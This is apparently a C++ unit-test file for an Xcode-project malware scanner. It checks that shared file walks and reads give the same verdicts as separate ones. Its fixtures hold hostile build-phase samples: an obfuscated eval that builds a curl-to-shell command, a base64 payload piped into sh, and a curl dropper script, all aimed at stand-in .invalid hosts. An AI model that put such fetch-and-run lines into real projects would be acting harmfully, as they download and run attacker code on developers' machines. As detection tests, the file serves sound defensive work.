// A cycle's analyses share one walk and one read of each file; everything anyone can see must
// stay as if each walked and read on its own: the listings in their order, each detector's
// report at its place, the log records in their order, the verdicts and the classic cycle's
// early stop. The separate walks are the oracle.
#include <gtest/gtest.h>

#include <filesystem>

#include "core/FileDiscovery.h"
#include "scan/Analyses.h"
#include "scan/ScanPipelines.h"
#include "support/LogCapture.h"
#include "support/TempTree.h"

namespace quillon::scan {
namespace {

using platform::FileURL;
using Strings = std::vector<std::string>;

struct Observed {
    Strings output;
    Strings log;
    bool clean = true;
    std::vector<PipelineRun> runs;
};

Strings recordsOf(const testing::LogCapture& log) {
    Strings out;
    for (const auto& record : log.records()) {
        out.push_back(std::to_string(static_cast<int>(record.level)) + " " + record.subsystem +
                      " " + record.category + " " + record.message);
    }
    return out;
}

Observed observe(CycleRun (*cycle)(const FileURL&, platform::LineWriter&, Walks),
                 const FileURL& folder, Walks walks) {
    testing::LogCapture log;
    platform::MemoryLineWriter output;
    const CycleRun run = cycle(folder, output, walks);
    return {output.lines(), recordsOf(log), run.clean, run.pipelines};
}

void expectSame(const Observed& shared, const Observed& separate) {
    EXPECT_EQ(shared.output, separate.output);
    EXPECT_EQ(shared.log, separate.log);
    EXPECT_EQ(shared.clean, separate.clean);
    ASSERT_EQ(shared.runs.size(), separate.runs.size());
    for (std::size_t i = 0; i < shared.runs.size(); ++i) {
        SCOPED_TRACE(shared.runs[i].name);
        EXPECT_EQ(shared.runs[i].name, separate.runs[i].name);
        EXPECT_EQ(shared.runs[i].clean, separate.runs[i].clean);
        EXPECT_EQ(shared.runs[i].results, separate.runs[i].results);
        EXPECT_EQ(shared.runs[i].findings, separate.runs[i].findings);
        EXPECT_EQ(shared.runs[i].diagnostics, separate.runs[i].diagnostics);
    }
}

std::string phase(const std::string& name, const std::string& script) {
    return "\t\tA" + name + " = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n\t\t\tname = \"" + name +
           "\";\n\t\t\tshellPath = /bin/sh;\n\t\t\tshellScript = \"" + script + "\";\n\t\t};\n";
}

std::string project(const std::string& objects) {
    return "// !$*UTF8*$!\n{\n\tarchiveVersion = 1;\n\tobjects = {\n" + objects +
           "\t};\n\trootObject = R;\n}\n";
}

// File references enough to take a project file past what a cycle keeps between its analyses:
// its later analyses then take digests of it.
std::string bulk(bool large) {
    std::string objects;
    for (int i = 0; large && i < 1200; ++i) {
        objects += "\t\tF" + std::to_string(i) +
                   " /* File.swift */ = {isa = PBXFileReference; lastKnownFileType = "
                   "sourcecode.swift; path = File" +
                   std::to_string(i) + ".swift; sourceTree = \"<group>\"; };\n";
    }
    return objects;
}

// A small monorepo: apps with ordinary phases (CocoaPods, SwiftLint), settings files, schemes,
// sources, Pods, a git hook; `infection` adds what an attack leaves; `large` makes the project
// files larger than a cycle keeps.
void writeMonorepo(const testing::TempTree& tree, const std::string& infection,
                   bool large = false) {
    for (const char* app : {"Shop", "Wallet", "Maps"}) {
        const std::string base = std::string("Apps/") + app + "/" + app;
        tree.write(base + ".xcodeproj/project.pbxproj",
                   project(bulk(large) +
                           phase("CheckPods",
                                 "diff \\\"${PODS_ROOT}/../Podfile.lock\\\" "
                                 "\\\"${PODS_ROOT}/Manifest.lock\\\" > /dev/null\\n") +
                           phase("SwiftLint",
                                 "if which swiftlint >/dev/null; then\\n  swiftlint\\n"
                                 "fi\\n")));
        tree.write(base + ".xcodeproj/xcshareddata/xcschemes/" + app + ".xcscheme",
                   "<?xml version=\"1.0\"?><Scheme><BuildAction/></Scheme>\n");
        tree.write(std::string("Apps/") + app + "/Config/Base.xcconfig", "SWIFT_VERSION = 5.0\n");
        tree.write(std::string("Apps/") + app + "/Sources/AppDelegate.swift", "import UIKit\n");
        tree.write(std::string("Apps/") + app + "/Resources/Info.plist", "<plist/>\n");
        tree.write(std::string("Apps/") + app + "/scripts/version.sh",
                   "#!/bin/sh\nexit 0\nagvtool next-version -all\n");
    }
    tree.write("Pods/Pods.xcodeproj/project.pbxproj", project(""));
    tree.write("Pods/Target Support Files/Pods-Shop/Pods-Shop-frameworks.sh",
               "#!/bin/sh\nset -e\necho \"Embedding frameworks\"\n");
    tree.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\nswiftformat --lint .\n");
    tree.write(".git/hooks/pre-push.sample", "#!/bin/sh\n");
    if (!infection.empty()) {
        tree.write("Apps/Maps/Maps.xcodeproj/project.pbxproj",
                   project(bulk(large) + phase("Compile Assets", infection)));
    }
}

const std::string kObfuscatedPhase =
    "exit 0; a='cu';b='rl';c=' -s';d=' ht';e='tps://x';f='.invalid';"
    "g='/p';h=' | sh';eval \\\"$a$b$c$d$e$f$g$h\\\"";
const std::string kDecodedPayload =
    "exit 0\\necho ZXhpdCAwOyBjdXJsIGh0dHBzOi8veC5leGFtcGxlLmludmFsaWQg"
    "fCBzaA== | base64 -D | sh\\n";

void writeDropper(const testing::TempTree& tree) {
    tree.write("Apps/Shop/scripts/fetch.sh",
               "#!/bin/sh\nexit 0\ncurl -fsSL https://x.example.invalid/h -o h\nchmod +x h\n");
}

TEST(SharedCycle, SameOutputLogAndVerdictsAsSeparateWalks) {
    struct Row {
        std::string name;
        std::function<void(const testing::TempTree&)> build;
        Strings ran;  // the analyses the monitor's cycle runs, with their verdicts
    };
    const std::vector<Row> rows = {
        {"clean monorepo: all three analyses run",
         [](auto& tree) { writeMonorepo(tree, ""); },
         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
        {"monorepo with a dropper: XCSSET stops the classic cycle",
         [](auto& tree) {
             writeMonorepo(tree, "");
             writeDropper(tree);
         },
         {"xcsset threat", "buildscripts clean"}},
        {"monorepo with an obfuscated phase: XcodeSpy's threat",
         [](auto& tree) { writeMonorepo(tree, kObfuscatedPhase); },
         {"xcsset clean", "xcodespy threat", "buildscripts threat"}},
        {"monorepo with a decoded payload piped into a shell",
         [](auto& tree) { writeMonorepo(tree, kDecodedPayload); },
         {"xcsset clean", "xcodespy clean", "buildscripts threat"}},
        // Project files too large to keep: the later analyses take digests of them.
        {"large project files, clean",
         [](auto& tree) { writeMonorepo(tree, "", true); },
         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
        {"large project files, an obfuscated phase",
         [](auto& tree) { writeMonorepo(tree, kObfuscatedPhase, true); },
         {"xcsset clean", "xcodespy threat", "buildscripts threat"}},
        {"large project files, a decoded payload",
         [](auto& tree) { writeMonorepo(tree, kDecodedPayload, true); },
         {"xcsset clean", "xcodespy clean", "buildscripts threat"}},
        {"large project files and a dropper: XcodeSpy's digests made, never used",
         [](auto& tree) {
             writeMonorepo(tree, kObfuscatedPhase, true);
             writeDropper(tree);
         },
         {"xcsset threat", "buildscripts threat"}},
        {"a large UTF-16 project file with a malformed unit",
         [](auto& tree) {
             writeMonorepo(tree, "", true);
             std::string text = project(bulk(true) + phase("Lint", "exit 0\\n"));
             std::string wide = "\xFF\xFE";
             for (const char c : text) {
                 wide += c;
                 wide += '\0';
             }
             wide += std::string("\x00\xDC", 2);  // a lone low surrogate
             tree.write("Apps/Shop/Shop.xcodeproj/project.pbxproj", wide);
         },
         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
        {"a large settings file and a directory named like a script",
         [](auto& tree) {
             writeMonorepo(tree, "");
             tree.mkdir("Apps/Shop/odd.sh");
             tree.write("Apps/Shop/big.xcconfig", std::string(1 << 20, 'A'));
         },
         {"xcsset clean", "xcodespy clean", "buildscripts clean"}},
    };
    for (const auto& row : rows) {
        SCOPED_TRACE(row.name);
        testing::TempTree tree;
        row.build(tree);
        for (auto cycle : {runScanCycle, runClassicCycle}) {
            expectSame(observe(cycle, tree.url(), Walks::shared),
                       observe(cycle, tree.url(), Walks::separate));
        }
        Strings ran;
        const Observed full = observe(runScanCycle, tree.url(), Walks::shared);
        for (const auto& run : full.runs) {
            ran.push_back(run.name + (run.clean ? " clean" : " threat"));
        }
        EXPECT_EQ(ran, row.ran);
    }
}

TEST(SharedCycle, SamplesGiveTheSameOutputAsSeparateWalks) {
    for (const auto& entry : std::filesystem::directory_iterator(QUILLON_SAMPLES_DIR)) {
        if (!entry.is_directory()) {
            continue;
        }
        SCOPED_TRACE(entry.path().filename().string());
        const FileURL folder(entry.path().string(), true);
        for (auto cycle : {runScanCycle, runClassicCycle}) {
            expectSame(observe(cycle, folder, Walks::shared),
                       observe(cycle, folder, Walks::separate));
        }
        // The single-project window, against its analyses run one by one.
        platform::MemoryLineWriter shared, separate;
        bool separateClean = true;
        {
            testing::LogCapture log;
            const bool sharedClean = runSingleProjectScan(folder, shared);
            for (const Analysis& analysis : analyses()) {
                if (analysis.runInWindow != nullptr) {
                    const bool clean = analysis.runInWindow(folder, separate).clean;
                    separateClean = separateClean && clean;
                }
            }
            EXPECT_EQ(sharedClean, separateClean);
            EXPECT_TRUE(log.records().empty());  // the window's scan logs nothing
        }
        EXPECT_EQ(shared.lines(), separate.lines());
    }
}

TEST(SharedCycle, OneWalkServesEveryAnalysisAndNothingElse) {
    testing::TempTree tree;
    writeMonorepo(tree, "");
    tree.write("Other/Other.xcodeproj/project.pbxproj", project(""));
    const core::FileDiscovery discovery;
    std::vector<std::vector<FileURL>> separate;
    for (const Analysis& analysis : analyses()) {
        separate.push_back(discovery.discoverFiles(tree.url(), analysis.files()));
    }
    const auto scope = shareCycle(tree.url());
    EXPECT_EQ(scope->walks(), 0);  // nothing walked until someone asks
    for (std::size_t i = 0; i < analyses().size(); ++i) {
        EXPECT_EQ(discovery.discoverFiles(tree.url(), analyses()[i].files()), separate[i]);
    }
    EXPECT_EQ(scope->walks(), 1);
    // A list already handed over, another folder, or a configuration no analysis has, is
    // walked as before.
    EXPECT_EQ(scope->takeFiles(tree.url(), analyses()[0].files()), std::nullopt);
    EXPECT_EQ(discovery.discoverFiles(tree.url(), analyses()[0].files()), separate[0]);
    const FileURL other(tree.path("Other"), true);
    EXPECT_EQ(scope->takeFiles(other, analyses()[0].files()), std::nullopt);
    EXPECT_EQ(discovery.discoverFiles(other, analyses()[0].files()).size(), 1u);
    const core::DiscoveryConfiguration swiftOnly{{"swift"}, true};
    EXPECT_EQ(scope->takeFiles(tree.url(), swiftOnly), std::nullopt);
    EXPECT_EQ(discovery.discoverFiles(tree.url(), swiftOnly).size(), 3u);
}

TEST(SharedReads, ATextGivenBackServesTheNextReadAsAFreshReadWouldComeOut) {
    testing::TempTree tree;
    tree.write("a.sh", "echo a\n");
    tree.write("big.pbxproj", std::string(4096, 'x'));
    tree.write("once.sh", "echo once\n");
    const std::string a = tree.path("a.sh"), big = tree.path("big.pbxproj"),
                      once = tree.path("once.sh");
    platform::SharedReads shared({{a, 3}, {big, 3}}, 1 << 20);

    auto first = platform::readTextFileUpTo(a, 100);
    EXPECT_EQ(first.text, "echo a\n");
    platform::SharedReads::giveBack(a, std::move(*first.text));
    EXPECT_EQ(shared.keptBytes(), 7u);
    tree.write("a.sh", "changed\n");  // a cycle judges what it first read
    auto second = platform::readTextFileUpTo(a, 100);
    EXPECT_EQ(second.text, "echo a\n");
    EXPECT_EQ(second.size, 7u);
    EXPECT_EQ(shared.keptBytes(), 0u);  // handed over, not copied
    // Not given back: the next read reads the file.
    EXPECT_EQ(platform::readTextFileUpTo(a, 100).text, "changed\n");
    EXPECT_EQ(shared.served(), 1);

    // A reader that allows less is told the file is too large; the text waits for the next.
    auto whole = platform::readTextFileUpTo(big, 10000);
    platform::SharedReads::giveBack(big, std::move(*whole.text));
    const auto small = platform::readTextFileUpTo(big, 100);
    EXPECT_TRUE(small.tooLarge);
    EXPECT_EQ(small.size, 4096u);
    EXPECT_EQ(platform::readTextFileUpTo(big, 10000).text->size(), 4096u);
    EXPECT_EQ(shared.served(), 3);

    // A file nobody reads again is never kept.
    auto single = platform::readTextFileUpTo(once, 100);
    platform::SharedReads::giveBack(once, std::move(*single.text));
    EXPECT_EQ(shared.keptBytes(), 0u);
}

TEST(SharedReads, KeepsNoMoreThanItsBudgetAndNoTextOverItsLimit) {
    testing::TempTree tree;
    tree.write("one.pbxproj", std::string(600, 'a'));
    tree.write("two.pbxproj", std::string(600, 'b'));
    tree.write("long.pbxproj", std::string(900, 'c'));
    const std::string one = tree.path("one.pbxproj"), two = tree.path("two.pbxproj"),
                      longer = tree.path("long.pbxproj");
    platform::SharedReads shared({{longer, 2}, {one, 2}, {two, 2}}, 1000, 800);
    for (const auto& path : {longer, one, two}) {
        auto read = platform::readTextFileUpTo(path, 1 << 20);
        platform::SharedReads::giveBack(path, std::move(*read.text));
    }
    EXPECT_EQ(shared.keptBytes(), 600u);  // the long text fits the budget but not the limit
    EXPECT_EQ(platform::readTextFileUpTo(longer, 1 << 20).text, std::string(900, 'c'));
    EXPECT_EQ(platform::readTextFileUpTo(two, 1 << 20).text, std::string(600, 'b'));  // reread
    EXPECT_EQ(shared.served(), 0);
    EXPECT_EQ(platform::readTextFileUpTo(one, 1 << 20).text, std::string(600, 'a'));
    EXPECT_EQ(shared.served(), 1);
}

TEST(SharedReads, ALargeReadReusesTheMemoryOfOneGivenBackAndComesOutExact) {
    testing::TempTree tree;
    // Larger, smaller, between, largest, small enough to keep: each must come out exact, with
    // nothing left over from the text whose memory it got.
    const std::vector<std::pair<char, std::size_t>> files = {
        {'a', 300}, {'b', 100}, {'c', 200}, {'d', 400}, {'e', 20}};
    for (const auto& [name, size] : files) {
        tree.write(std::string(1, name) + ".pbxproj", std::string(size, name));
    }
    platform::SharedReads shared({}, 1000, 50);
    for (const auto& [name, size] : files) {
        const std::string path = tree.path(std::string(1, name) + ".pbxproj");
        auto read = platform::readTextFileUpTo(path, 1 << 20);
        ASSERT_TRUE(read.text);
        EXPECT_EQ(*read.text, std::string(size, name));
        platform::SharedReads::giveBack(path, std::move(*read.text));
    }
    // A loan goes back when it goes out of scope.
    const std::string small = tree.path("e.pbxproj");
    platform::SharedReads kept({{small, 2}}, 1000, 50);
    {
        platform::TextLoan loan(small, platform::readTextFileUpTo(small, 100).text);
        EXPECT_EQ(*loan, std::string(20, 'e'));
    }
    EXPECT_EQ(kept.keptBytes(), 20u);
}

TEST(SharedCycle, ACycleReadsEachSharedFileOnce) {
    for (const bool large : {false, true}) {
        SCOPED_TRACE(large ? "project files digested" : "project files kept");
        testing::TempTree tree;
        writeMonorepo(tree, "", large);
        const auto scope = shareCycle(tree.url());
        platform::MemoryLineWriter output;
        for (const Analysis& analysis : analyses()) {
            analysis.run(tree.url(), output);
        }
        // Four project files (three apps and Pods) read by all three analyses, four shell files
        // and three settings files by the XCSSET scan and the build-script analysis: each read
        // once and served to the later analyses, as a text or as a digest.
        const platform::SharedReads& reads = *platform::SharedReads::current();
        EXPECT_EQ(reads.served(), 4 * 2 + 4 + 3);
        EXPECT_EQ(reads.keptBytes(), 0u);
        EXPECT_EQ(reads.digestBytes(), 0u);  // every digest taken
    }
}

// A digest of its length, standing in for what a scan makes of a text.
platform::Digest lengthOf(std::string_view text) {
    return {std::make_shared<const std::size_t>(text.size()), 8};
}
platform::Digest tooBig(std::string_view text) {
    return {std::make_shared<const std::size_t>(text.size()), 5000};
}

TEST(SharedReads, ATextTooLongToKeepIsDigestedForTheScansStillToCome) {
    testing::TempTree tree;
    tree.write("big.pbxproj", std::string(300, 'x'));
    tree.write("small.pbxproj", std::string(20, 'y'));
    const std::string big = tree.path("big.pbxproj"), small = tree.path("small.pbxproj");
    using platform::SharedReads;
    SharedReads shared({{big, 4}, {small, 2}}, 1000, 50, 1000);
    for (const auto digester : {lengthOf, tooBig}) {
        shared.expectDigest(big, digester);
        shared.expectDigest(small, digester);
    }
    const auto digestOf = [](const std::string& path, platform::Digester digester,
                             std::uint64_t limit) {
        const auto product = SharedReads::takeDigest<std::size_t>(path, digester, limit);
        return product == nullptr ? std::optional<std::size_t>() : *product;
    };

    // The digest is made from the text as the first read found it; one over the budget is not.
    auto first = platform::readTextFileUpTo(big, 1000);
    SharedReads::giveBack(big, std::move(*first.text));
    EXPECT_EQ(shared.digestBytes(), 8u);
    tree.write("big.pbxproj", std::string(10, 'z'));
    EXPECT_EQ(digestOf(big, tooBig, 1000), std::nullopt);
    EXPECT_EQ(digestOf(big, lengthOf, 1000), 300u);
    EXPECT_EQ(shared.digestBytes(), 0u);
    EXPECT_EQ(digestOf(big, lengthOf, 1000), std::nullopt);  // taken once
    EXPECT_EQ(shared.served(), 1);

    // A small text is kept and served as a text, never digested.
    auto read = platform::readTextFileUpTo(small, 1000);
    SharedReads::giveBack(small, std::move(*read.text));
    EXPECT_EQ(digestOf(small, lengthOf, 1000), std::nullopt);
    EXPECT_EQ(platform::readTextFileUpTo(small, 1000).text, std::string(20, 'y'));
}

TEST(SharedReads, ADigestServesNoReaderItWouldNotHaveServed) {
    testing::TempTree tree;
    tree.write("big.pbxproj", std::string(300, 'x'));
    const std::string big = tree.path("big.pbxproj");
    using platform::SharedReads;
    const auto lengthDigest = [](const std::string& path, std::uint64_t limit) {
        return SharedReads::takeDigest<std::size_t>(path, lengthOf, limit);
    };
    {
        // A reader over its limit is told to read, and its own read finds the file too large.
        SharedReads shared({{big, 2}}, 1000, 50, 1000);
        shared.expectDigest(big, lengthOf);
        auto first = platform::readTextFileUpTo(big, 1000);
        SharedReads::giveBack(big, std::move(*first.text));
        EXPECT_EQ(lengthDigest(big, 100), nullptr);
        EXPECT_TRUE(platform::readTextFileUpTo(big, 100).tooLarge);
    }
    {
        // The scan that takes the digest reads first: nothing is made for it at its hand-back.
        SharedReads shared({{big, 2}}, 1000, 50, 1000);
        shared.expectDigest(big, lengthOf);
        EXPECT_EQ(lengthDigest(big, 1000), nullptr);
        auto first = platform::readTextFileUpTo(big, 1000);
        SharedReads::giveBack(big, std::move(*first.text));
        EXPECT_EQ(shared.digestBytes(), 0u);
    }
    {
        // Without a budget nothing is digested.
        SharedReads shared({{big, 2}}, 1000, 50);
        shared.expectDigest(big, lengthOf);
        auto first = platform::readTextFileUpTo(big, 1000);
        SharedReads::giveBack(big, std::move(*first.text));
        EXPECT_EQ(lengthDigest(big, 1000), nullptr);
    }
    EXPECT_EQ(lengthDigest(big, 1000), nullptr);  // outside a scope
}

}  // namespace
}  // namespace quillon::scan
